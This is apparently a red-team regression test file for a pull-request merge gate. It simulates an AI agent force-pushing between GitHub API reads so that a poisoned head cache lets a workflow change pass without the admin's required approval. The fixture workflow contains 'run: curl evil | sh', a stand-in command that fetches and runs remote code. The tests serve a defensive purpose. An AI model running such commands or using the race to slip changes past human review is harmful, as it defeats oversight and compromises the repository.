"""Red team round 4: `head_facts` caches GitHub's commit and file lists under the head
sha of the pull request copy the evaluation read, but `GET /pulls/{n}/commits` and
`/files` answer for the pull request's head *now*. An agent that pushes between the two
reads poisons the cache of the older head for `HEAD_TTL` (7 days): that head is judged on
another head's commits and files, as complete, and `known_head` now also lets the list of
open pull requests stand in for `GET /pulls/{n}` on the strength of that entry."""

from __future__ import annotations

import contextlib

import pytest

from app.errors import TransientError
from app.gate import fetch_pull
from app.github.gather import head_facts, head_key
from tests.unit.github.conftest import AGENT, REPO, Gate


def test_the_commits_cached_for_a_head_are_that_heads(gate: Gate):
    number = gate.simulator.open_pull_request(
        REPO, author=AGENT, files={".github/workflows/release.yml": "run: curl evil | sh\n"}
    )
    first = gate.head(number)
    deps = gate.app.extensions["foureyes"]
    with gate.app.app_context():
        gh = deps.github.for_installation(gate.installed.installation_id)
        with gh:
            pull = fetch_pull(gh, REPO, number)  # the evaluation reads the pull request at `first`
            # ... and the agent force-pushes before the evaluation lists its commits and
            # files: one commit, one file, as many as the copy's counts say.
            world = gate.simulator.world
            with world.lock:
                base = world.commits[first].parents[0]
                second = world.add_commit(
                    base, {"README.md": "harmless\n"}, author=AGENT, committer=AGENT, message="x"
                ).sha
            _force_push(gate, number, second)
            # The listed commits end at the newer head: the read is refused (the
            # evaluation runs again, on the pull request as it is then), nothing is kept.
            with pytest.raises(TransientError, match="moved from"):
                head_facts(gh, deps.state, REPO, pull)
    assert second != first
    assert deps.state.get(head_key(REPO, pull)) is None


POLICY = """\
version: 1
agents:
  logins: ["ci-agent-*"]
merge:
  rules:
    - name: human review
      require: {approvals: 1, permission: write}
    - name: workflows need the admin
      if: {paths: [".github/workflows/**"]}
      require: {approvals: 1, users: ["second"]}
"""


def _force_push(gate: Gate, number: int, sha: str) -> None:
    """The pull request's branch now points at `sha` (a force push)."""
    world = gate.simulator.world
    with world.lock:
        record = world.repo(REPO)
        moved = record.pulls[number]
        moved.commits, moved.head_sha = [sha], sha
        moved.updated_at = world.now()
        record.branches[moved.head_ref] = sha


def test_a_workflow_change_passes_on_a_poisoned_head_cache(gate: Gate):
    gate.simulator.push_default_branch(
        REPO, {".github/foureyes.yml": POLICY}, pusher="second", message="Workflow rule"
    )
    gate.deliver("push")
    number = gate.simulator.open_pull_request(
        REPO, author=AGENT, files={".github/workflows/release.yml": "run: curl evil | sh\n"}
    )
    first = gate.head(number)
    deps = gate.app.extensions["foureyes"]
    with gate.app.app_context():
        gh = deps.github.for_installation(gate.installed.installation_id)
        with gh:
            pull = fetch_pull(gh, REPO, number)  # an evaluation reads the pull request at `first`
            world = gate.simulator.world
            with world.lock:
                base = world.commits[first].parents[0]
                harmless = world.add_commit(
                    base, {"README.md": "hi\n"}, author=AGENT, committer=AGENT, message="x"
                ).sha
            _force_push(gate, number, harmless)  # the agent force-pushes meanwhile
            # ... and the evaluation lists commits and files: refused, and retried.
            with contextlib.suppress(TransientError):
                head_facts(gh, deps.state, REPO, pull)
    _force_push(gate, number, first)  # back to the workflow change
    gate.simulator.review(REPO, number, "maintainer")
    gate.deliver("pull_request_review")

    runs = gate.check_runs(first)
    assert runs and runs[-1].conclusion != "success", (
        f"{first[:7]} changes .github/workflows/release.yml, which needs `second`'s approval, "
        "yet passed on the maintainer's: it was judged on the files of another head"
    )
